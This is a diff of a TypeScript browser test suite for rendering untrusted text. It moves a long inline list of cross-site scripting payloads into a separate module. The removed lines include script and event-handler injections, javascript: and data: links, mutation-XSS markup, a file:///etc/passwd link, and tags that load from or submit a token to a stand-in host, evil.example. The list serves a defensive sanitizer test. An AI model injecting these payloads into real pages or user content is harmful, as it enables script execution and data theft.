@@ -2,52 +2,10 @@ import type { Browser, Page } from "playwright-core";
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
 import { says } from "./answers.ts";
 import { eventually, foreignRequests, launchBrowser, openPage, say, whyNoBrowser } from "./browser.ts";
+import { payloads } from "./payloads.ts";
 import { startGateway } from "./test-gateway.ts";
 
 const timestamp = 1;
-
-// Each would call `alert`, ask for something under `evil.example`, or stand where it does not
-// belong.
-const payloads: readonly string[] = [
-  "<script>alert(1)</script>",
-  "<img src=x onerror=alert(1)>",
-  "<img src=https://evil.example/pixel.png>",
-  "![pixel](https://evil.example/pixel.png)",
-  "![x](javascript:alert(1))",
-  '![x](https://evil.example/"onerror="alert(1))',
-  "<svg onload=alert(1)></svg>",
-  "<svg><script>alert(1)</script></svg>",
-  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
-  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
-  '<iframe src="javascript:alert(1)"></iframe>',
-  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
-  "<object data=https://evil.example/x></object><embed src=https://evil.example/x>",
-  '<form action="https://evil.example/"><input name=token autofocus onfocus=alert(1)><button>ok</button></form>',
-  '<base href="https://evil.example/"><link rel=stylesheet href=https://evil.example/x.css>',
-  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
-  "<style>@import 'https://evil.example/x.css'; body { display: none }</style>",
-  '<div style="position:fixed;inset:0;background:url(https://evil.example/x)" class="banner" id="keys">cover</div>',
-  "[click](javascript:alert(1))",
-  "[click](JaVaScRiPt&colon;alert(1))",
-  "[click](&#106;avascript:alert(1))",
-  "[click](java\tscript:alert(1))",
-  "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-  "[click](vbscript:msgbox(1))",
-  "[click](file:///etc/passwd)",
-  '[click](https://evil.example/ "x\\" onmouseover=\\"alert(1)")',
-  "[ref]\n\n[ref]: javascript:alert(1)",
-  "<javascript:alert(1)>",
-  '<a href="https://evil.example/" target="_self" rel="opener" ping="https://evil.example/ping">a</a>',
-  "<details open ontoggle=alert(1)><summary>x</summary></details>",
-  '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
-  "```html\n</code></pre><script>alert(1)</script>\n```",
-  '```"><img/src/onerror=alert(1)>\nx\n```',
-  "`</code><img src=x onerror=alert(1)>`",
-  "| a |\n| --- |\n| <img src=x onerror=alert(1)> |",
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-  "\u202Egnp.exe <b>bidi</b>",
-];
 
 describe.skipIf(whyNoBrowser)("untrusted text", () => {
   let browser: Browser;
